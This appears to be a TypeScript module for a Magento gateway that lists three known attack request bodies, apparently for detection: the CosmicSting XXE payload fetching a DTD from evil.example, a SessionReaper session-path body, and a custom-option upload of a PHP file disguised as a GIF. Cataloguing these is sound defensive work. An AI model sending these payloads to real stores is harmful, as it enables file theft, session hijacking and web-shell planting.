/** Bodies that took over other people's Magento shops, in calls that the gateway knows. */

export interface KnownBody {
  name: string;
  method: string;
  /** Below a guest's basket. */
  path: string;
  body: object;
  /** The first that no call has. */
  member: string;
}

/** XML that is read from elsewhere, by the constructor of a class that a member names. */
const COSMIC_STING: KnownBody = {
  name: 'CVE-2024-34102',
  method: 'POST',
  path: '/estimate-shipping-methods',
  body: {
    address: {
      totalsReader: {
        collectorList: {
          totalCollector: {
            sourceData: { data: 'https://evil.example/x.dtd', dataIsURL: true, options: 12 },
          },
        },
      },
    },
  },
  member: 'address.totalsReader',
};

/** A session that is read from a file which was sent before. */
const SESSION_REAPER: KnownBody = {
  name: 'CVE-2025-54236',
  method: 'POST',
  path: '/shipping-information',
  body: {
    addressInformation: {
      paymentMethod: {
        paymentData: {
          context: { urlBuilder: { session: { sessionConfig: { savePath: 'media/x' } } } },
        },
      },
    },
  },
  member: 'addressInformation.paymentMethod',
};

/** A script that is stored as the file of an option. */
const OPTION_FILE: KnownBody = {
  name: 'a file of an option',
  method: 'POST',
  path: '/items',
  body: {
    cartItem: {
      sku: 'PW110-UK',
      qty: 1,
      product_option: {
        extension_attributes: {
          custom_options: [
            {
              option_id: '1',
              option_value: 'file',
              extension_attributes: {
                file_info: { base64_encoded_data: 'R0lGODlh', type: 'image/gif', name: 'a.php' },
              },
            },
          ],
        },
      },
    },
  },
  member: 'cartItem.product_option.extension_attributes.custom_options',
};

export const KNOWN_BODIES: readonly KnownBody[] = [COSMIC_STING, SESSION_REAPER, OPTION_FILE];
